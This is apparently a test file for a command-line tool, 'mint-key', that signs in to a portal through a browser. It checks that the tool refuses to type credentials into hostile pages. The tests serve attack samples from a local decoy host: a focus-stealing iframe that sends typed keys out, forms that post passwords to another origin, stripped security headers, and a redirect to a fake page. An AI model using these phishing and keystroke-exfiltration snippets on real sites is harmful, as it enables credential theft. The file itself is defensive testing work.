import { FORM, startDecoy } from '../faults/fault-proxy.ts';
import { forward, pass } from '../faults/faults.ts';
import { credentials, expect, test } from '../fixtures.ts';
import { type Served, serve } from '../serve.ts';

test.use({ sharesBrowser: true });

/** Passes everything on, but serves a sign-in page of its own, or changes the server's. */
function replacePage(target: string, rewrite: (page: string) => string): Promise<Served> {
  return serve(async (incoming, outgoing) => {
    const exchange = { incoming, outgoing, target, elsewhere: '' };
    const reply = await forward(exchange);
    // The server's own policy would forbid what is tried here.
    const { 'content-security-policy': _, 'x-frame-options': __, ...headers } = reply.headers;
    const body = incoming.url === '/app' ? rewrite(String(reply.body)) : reply.body;
    pass(exchange, { ...reply, headers }, body);
  });
}

/** @returns a script that tells an address as soon as something is typed */
function telling(address: string): string {
  return `<script>oninput = () => fetch('${address}', { method: 'POST', mode: 'no-cors', keepalive: true });</script>`;
}

test('a frame of another origin that keeps taking the focus gets nothing of what is typed', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer({ drawFormAfterMs: 300 });
  await using decoy = await startDecoy(
    `<input type="password" autofocus><script>
       const field = document.querySelector('input');
       setInterval(() => field.focus(), 1);
       field.oninput = () => fetch('/took?' + encodeURIComponent(field.value));
     </script>`,
  );
  const frame = `<body><iframe src="${decoy.url}/frame" width="300" height="100"></iframe>`;
  await using site = await replacePage(server.url, (page) => page.replace('<body>', frame));
  const { stderr } = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_URL: site.url },
    words: ['--timeout', '15s'],
  });

  expect(decoy.heard.join('\n'), stderr).not.toMatch(/took\?./);
  expect(decoy.heard.length).toBeGreaterThan(0);
});

for (const [what, form] of Object.entries({
  'a form':
    '<form method="post" action="DECOY/login"><input type="text"><input type="password"><button>Sign in</button></form>',
  'a button':
    '<form><input type="text"><input type="password"><button formaction="DECOY/login" formmethod="post">Sign in</button></form>',
  'a form below a base address':
    '<base href="DECOY/"><form method="post" action="login"><input type="text"><input type="password"><button>Sign in</button></form>',
})) {
  test(`${what} that would send the password to another origin is not filled in: exit 4, naming it`, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    await using decoy = await startDecoy();
    await using site = await replacePage(
      server.url,
      () => `<body>${form.replace('DECOY', decoy.url)}${telling(`${decoy.url}/typed`)}</body>`,
    );
    const { code, stderr } = await runCommand('mint-key', {
      env: { ...credentials(server), OCTOPUS_URL: site.url },
      words: ['--timeout', '60s'],
    });

    expect(decoy.heard, stderr).toEqual([]);
    expect(code, stderr).toBe(4);
    expect(stderr).toContain(`the sign-in form sends what is typed to ${decoy.url}, which is not the origin`);
  });
}

test("a page of another origin at the portal's own address gets nothing of what is typed: exit 4, naming it", async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer();
  await using decoy = await startDecoy(`<body>${FORM}${telling('/typed')}</body>`);
  await using portal = await serve(async (incoming, outgoing) => {
    const exchange = { incoming, outgoing, target: server.url, elsewhere: '' };
    if (incoming.url === '/app') return void outgoing.writeHead(302, { location: `${decoy.url}/app` }).end();
    pass(exchange, await forward(exchange));
  });
  const env = { ...credentials(server), OCTOPUS_URL: portal.url };
  const { code, stderr } = await runCommand('mint-key', { env, words: ['--timeout', '60s'] });

  expect(decoy.heard).toContain('/app');
  expect(decoy.heard).not.toContain('/typed');
  expect(code, stderr).toBe(4);
  expect(stderr).toContain(`the browser was sent to ${decoy.url}, which is not the origin of OCTOPUS_URL`);
});

for (const [password, expected] of [
  [undefined, 0],
  ['fake-wrong-password', 4],
] as const) {
  test(`a portal that signs in by a path that nobody knows is sent the password once, exit ${expected}`, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    let logins = 0;
    await using site = await serve(async (incoming, outgoing) => {
      const isLogin = incoming.url === '/api/sign-me-in';
      if (isLogin) {
        logins += 1;
        incoming.url = '/api/users/login';
      }
      const exchange = { incoming, outgoing, target: server.url, elsewhere: '' };
      const reply = await forward(exchange);
      const isPage = incoming.url === '/app';
      const page = String(reply.body).replace('/api/users/login', '/api/sign-me-in');
      pass(exchange, reply, isPage ? page : reply.body);
    });
    const { code, stderr } = await runCommand('mint-key', {
      env: {
        ...credentials(server),
        OCTOPUS_URL: site.url,
        ...(password ? { OCTOPUS_PASSWORD: password } : {}),
      },
    });

    expect(code, stderr).toBe(expected);
    expect(logins).toBe(1);
  });
}
